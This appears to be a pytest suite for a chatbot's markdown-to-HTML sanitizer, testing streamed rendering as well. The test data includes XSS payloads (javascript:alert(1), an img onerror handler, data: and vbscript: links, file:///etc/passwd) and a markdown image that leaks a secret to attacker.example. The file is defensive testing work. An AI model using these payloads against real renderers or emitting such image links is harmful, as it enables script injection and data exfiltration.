"""The one sanitizer: no script, no handler, no link but http(s)/mailto, no image from another host."""

from __future__ import annotations

from html.parser import HTMLParser
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

from chatbot.render import TAGS, blocks, live_html, plain_text, safe_html

PAYLOADS = Path(__file__).resolve().parent / "payloads"
SAFE_LINK_PREFIXES = ("http://", "https://", "mailto:", "#")


def payloads(name: str) -> list[str]:
    lines = (PAYLOADS / name).read_text().splitlines()
    return [line.replace("\\n", "\n") for line in lines if line.strip() and not line.startswith("#!")]


ALL_PAYLOADS = payloads("xss.txt") + payloads("markdown.txt")


class Elements(HTMLParser):
    """Every element of an HTML fragment as (tag, attributes)."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, {name: value or "" for name, value in attrs}))


def elements(fragment: str) -> list[tuple[str, dict[str, str]]]:
    parser = Elements()
    parser.feed(fragment)
    return parser.found


def assert_safe(fragment: str, image_hosts: frozenset[str] = frozenset()) -> None:
    for tag, attrs in elements(fragment):
        assert tag in TAGS, f"<{tag}> in {fragment}"
        assert not [name for name in attrs if name.startswith("on")], f"handler on <{tag}> in {fragment}"
        if "href" in attrs:
            assert attrs["href"].lower().startswith(SAFE_LINK_PREFIXES), fragment
        if tag == "img":
            host = attrs.get("src", "").split("/")[2] if attrs.get("src", "").count("/") >= 2 else ""
            assert attrs.get("src", "").startswith("https://") and host in image_hosts, fragment
        assert "srcset" not in attrs, fragment
        assert "style" not in attrs or tag in ("th", "td"), fragment
    assert "\n" not in fragment, "the HTML must be one line: a blank line would end the raw block"


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_no_payload_survives_the_sanitizer(payload):
    assert_safe(safe_html(payload))


@pytest.mark.parametrize("payload", ALL_PAYLOADS)
def test_no_payload_survives_while_it_streams(payload):
    """The live view sanitizes every prefix of the answer as it arrives, block by block."""
    for end in range(1, len(payload) + 1, max(1, len(payload) // 40)):
        assert_safe(live_html(payload[:end] + " ▌"))
        assert_safe(live_html(payload[end:]))  # a window that starts mid-answer


def test_an_image_becomes_its_description_and_address_and_is_never_loaded():
    shown = safe_html("![status](http://attacker.example/x.png?data=secret)")
    assert [tag for tag, _ in elements(shown)] == ["p", "span", "code"]
    assert "[image: status]" in shown and "http://attacker.example/x.png?data=secret" in shown


def test_an_image_from_an_allowed_host_is_shown():
    hosts = frozenset({"images.example.com"})
    shown = safe_html("![chart](https://images.example.com/c.png) ![x](https://other.example/x.png)", hosts)
    assert [a["src"] for tag, a in elements(shown) if tag == "img"] == ["https://images.example.com/c.png"]
    assert "[image: x]" in shown


@pytest.mark.parametrize("scheme", ["javascript:alert(1)", "data:text/html;base64,PHNjcmlwdD4=", "file:///etc/passwd",
                                    "ms-msdt:/id x", "ms-settings:privacy", "search-ms:query=x", "vbscript:x"])
def test_a_link_with_another_scheme_is_shown_as_text(scheme):
    shown = safe_html(f"[click]({scheme})")
    assert [tag for tag, _ in elements(shown)] == ["p"]
    assert "click" in shown


def test_markdown_still_formats():
    shown = safe_html("# Title\n\n**bold**, `code`, [site](https://example.com) and www.example.org\n\n"
                      "| a | b |\n|:-|-:|\n| 1 | 2 |\n\n```python\nx = 1\n\ny = 2\n```")
    tags = [tag for tag, _ in elements(shown)]
    assert {"h1", "strong", "code", "a", "table", "pre"} <= set(tags)
    assert '<a href="https://example.com" rel="noopener noreferrer nofollow">site</a>' in shown
    assert "x = 1&#10;&#10;y = 2" in shown  # the code's blank line kept, as a character reference


def test_html_shows_as_text():
    assert safe_html("<script>alert(1)</script> a < b") == "<p>&lt;script&gt;alert(1)&lt;/script&gt; a &lt; b</p>&#10;"


def test_code_keeps_its_characters():
    assert "<code>vec![1, 2] &lt;T&gt;</code>" in safe_html("`vec![1, 2] <T>`")


@given(st.text())
def test_any_text_is_safe(text):
    assert_safe(safe_html(text))


@pytest.mark.parametrize("label", ["![x](http://attacker.example/t.png)", "[a](javascript:alert(1))", "**b** :red[x] $x$",
                                   "<img src=x onerror=alert(1)>", "www.example.com", "a\nb"])
def test_a_plain_label_escapes_every_markdown_character(label):
    escaped = plain_text(label)
    assert "\n" not in escaped
    for char in "![]()*:$<>`":
        assert char not in escaped.replace(f"\\{char}", "")


def test_a_growing_answer_is_cut_into_blocks_outside_code():
    text = "one\n\ntwo\nlines\n\n```\ncode\n\nmore code\n```\n\n\nlast"
    assert blocks(text) == ["one", "two\nlines", "```\ncode\n\nmore code\n```", "last"]


@given(st.text())
def test_any_growing_text_is_safe(text):
    assert_safe(live_html(text))
